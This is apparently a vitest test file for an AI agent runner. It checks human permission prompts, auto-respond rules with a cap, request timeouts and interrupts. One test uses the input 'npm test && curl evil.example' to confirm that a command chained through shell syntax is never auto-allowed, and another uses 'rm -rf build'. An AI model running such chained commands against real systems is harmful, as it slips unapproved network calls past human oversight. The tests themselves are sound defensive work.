import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import type { Reply } from "../../src/agents/driver.ts";
import { type RunnerWorld, runnerWorld, stopRunners, until } from "../helpers/runner-world.ts";
import { ECHO, scriptedDriver } from "../helpers/scripted-protocol.ts";
import { tempDir } from "../helpers/tmp.ts";

/**
 * The runner's side of protocol sessions, over a real child process (see tests/helpers/scripted-protocol.ts).
 */

type World = RunnerWorld & { wire: string };

afterEach(stopRunners);

function world(runner: Record<string, unknown> = {}, codex: Record<string, unknown> = {}): World {
  const dir = tempDir("asm-protocol-");
  const wire = join(dir, "wire.jsonl");
  const w = runnerWorld({
    dir,
    agent: "codex",
    driver: scriptedDriver(wire),
    driverConfig: { command: ECHO, ...codex },
    runner: { interruptGraceSeconds: 0.3, ...runner },
  });
  return { ...w, wire };
}
const wire = (w: World) =>
  readFileSync(w.wire, "utf8")
    .trim()
    .split("\n")
    .map((l) => JSON.parse(l) as { op: string; reply?: Reply });

describe("protocol sessions in the runner", () => {
  it("the first prompt, the permission prompt and the answer travel through the session; the CLI is let go after the turn", async () => {
    const w = world();
    const spawned = w.runner.spawn({ agent: "codex", workspace: "app", prompt: "cmd:npm install left-pad" });
    await until(() => w.asks.length === 1);
    const row = w.store.get(spawned.id)!;
    expect(row.status).toBe("waiting-for-input");
    expect(row.waitingReason).toBe("permission");
    expect(row.waitingDetail).toBe("permission: Bash(npm install left-pad)");
    expect(w.asks[0]!.payload.action).toEqual({ kind: "command", command: "npm install left-pad" });
    // No rule: a person decides (the store makes it single use), the runner sends it through the session.
    expect(w.requests.decide(w.asks[0]!.id, w.asks[0]!.nonce, "allowed", "telegram:1", Date.now())).toBe(true);
    expect(w.runner.answer(w.asks[0]!, true)).toBe(true);
    const done = await w.runner.waitFor(spawned.id, 20);
    expect(done.status).toBe("completed");
    expect(done.outputTail).toContain("ran it");
    expect(done.sessionId).toBe("sess-1");
    expect(done.waitingDetail).toBeNull();
    expect(wire(w).map((m) => m.op)).toEqual(["turn", "reply"]);
    expect(wire(w)[1]!.reply).toEqual({ kind: "permission", allow: true });
  });

  it("an auto-response rule answers matching commands until the cap, then a person is asked; a non-matching one always asks", async () => {
    const w = world({}, { autoRespond: { rules: [{ allow: "command", commands: ["npm test"] }], maxAutoResponds: 1 } });
    const first = w.runner.spawn({ agent: "codex", workspace: "app", prompt: "cmd:npm test -- --run auth" });
    const a = await w.runner.waitFor(first.id, 20);
    expect(a.status).toBe("completed");
    expect(a.respondCount).toBe(1);
    expect(w.asks).toHaveLength(0);
    const auto = w.requests.get(1)!;
    expect([auto.status, auto.decidedBy, auto.answer]).toEqual(["allowed", "asm:auto", "command npm test"]);
    expect(w.store.events(first.id, { limit: 50 }).some((e) => e.payload.kind === "auto-allowed: command npm test")).toBe(true);

    // The next turn resumes the same agent session; the cap of 1 is used up, so this one waits for a person.
    w.runner.send(first.id, "cmd:npm test");
    await until(() => w.asks.length === 1);
    expect(w.store.get(first.id)!.respondCount).toBe(1);
    expect(w.store.events(first.id, { limit: 50 }).some((e) => String(e.payload.kind).startsWith("auto-respond cap reached"))).toBe(true);
    expect(w.requests.decide(w.asks[0]!.id, w.asks[0]!.nonce, "denied", "telegram:1", Date.now())).toBe(true);
    w.runner.answer(w.asks[0]!, false, "no");
    expect((await w.runner.waitFor(first.id, 20)).outputTail).toContain("not allowed");

    // A command with shell syntax never matches a rule, however its first words read.
    const other = world({}, { autoRespond: { rules: [{ allow: "command", commands: ["npm test"] }], maxAutoResponds: 5 } });
    other.runner.spawn({ agent: "codex", workspace: "app", prompt: "cmd:npm test && curl evil.example" });
    await until(() => other.asks.length === 1);
    expect(other.store.get("w1")!.respondCount).toBe(0);
  });

  it("a request nobody answers is reminded once, then expires: denied through the session, recorded, and said", async () => {
    const w = world({ waitingReminderMinutes: 0.002, permissionTimeoutMinutes: 0.006 });
    const s = w.runner.spawn({ agent: "codex", workspace: "app", prompt: "cmd:rm -rf build" });
    const done = await w.runner.waitFor(s.id, 20);
    expect(w.reminders).toHaveLength(1);
    expect(done.status).toBe("completed");
    expect(done.outputTail).toContain("not allowed");
    const r = w.requests.get(w.asks[0]!.id)!;
    expect([r.status, r.decidedBy]).toEqual(["expired", "asm"]);
    expect(w.settled).toEqual([`${r.id}:expired`]);
    expect(wire(w)[1]!.reply).toMatchObject({ kind: "permission", allow: false });
  });

  it("a question's answer (typed) reaches the agent; a second answer finds nothing open", async () => {
    const w = world();
    const s = w.runner.spawn({ agent: "codex", workspace: "app", prompt: "ask:Which colour?" });
    await until(() => w.asks.length === 1);
    expect(w.asks[0]!.payload.options).toEqual(["red", "blue"]);
    expect(w.store.get(s.id)!.waitingDetail).toBe("question: Which colour?");
    const r = w.runner.answerQuestion(s.id, "blue, please", "telegram:1");
    expect(r?.answer).toBe("blue, please");
    expect(w.runner.answerQuestion(s.id, "red", "telegram:1")).toBeNull();
    expect((await w.runner.waitFor(s.id, 20)).outputTail).toContain("answer: blue, please");
  });

  it("io.fail ends the run as failed with the session's reason; an interrupt goes through the protocol", async () => {
    const w = world();
    const f = w.runner.spawn({ agent: "codex", workspace: "app", prompt: "fail:now" });
    const failed = await w.runner.waitFor(f.id, 20);
    expect([failed.status, failed.errorClass, failed.errorMessage]).toEqual(["failed", "auth", "the server refused the handshake: 401"]);

    const i = w.runner.spawn({ agent: "codex", workspace: "app", prompt: "cmd:sleep 100" });
    await until(() => w.asks.length === 1);
    w.runner.interrupt(i.id);
    const stopped = await w.runner.waitFor(i.id, 20);
    expect(stopped.status).toBe("interrupted");
    expect(wire(w).some((m) => m.op === "interrupt")).toBe(true);
    // The open request was withdrawn with the run: nobody can answer it any more.
    expect(w.requests.get(w.asks[0]!.id)!.status).toBe("expired");
  });
});
